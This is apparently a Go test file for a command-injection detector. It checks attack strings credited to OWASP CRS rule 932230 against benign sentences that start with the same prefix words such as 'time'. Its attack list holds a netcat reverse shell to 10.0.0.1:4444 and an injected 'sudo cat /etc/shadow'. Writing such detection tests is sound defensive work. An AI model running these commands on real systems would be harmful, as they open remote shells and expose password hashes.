package signature_test

import "testing"

// A prefix command (time, nohup, sudo) runs the command line after it;
// that line is judged as if it stood alone. Public samples: the OWASP CRS
// regression tests of its rule 932230 (Apache-2.0).
var prefixAttacks = []placedCase{
	{"time sh -c whoami", nil},
	{"'TiMe Sh -c whoami", nil},
	{"nohup nc -e /bin/sh 10.0.0.1 4444", nil},
	{"x; sudo cat /etc/shadow", nil},
}

// prefixBenign are sentences that open with a prefix's word.
var prefixBenign = []placedCase{
	{"time flies like an arrow", nil},
	{"time for a change", nil},
	{"command line options are listed below", nil},
	{"nice work, thanks", nil},
	{"time: 10 minutes", nil},
}

func TestPrefixCommands(t *testing.T) {
	checkPlaced(t, "cmdi", prefixAttacks, 0.99, prefixBenign, 0.75)
}
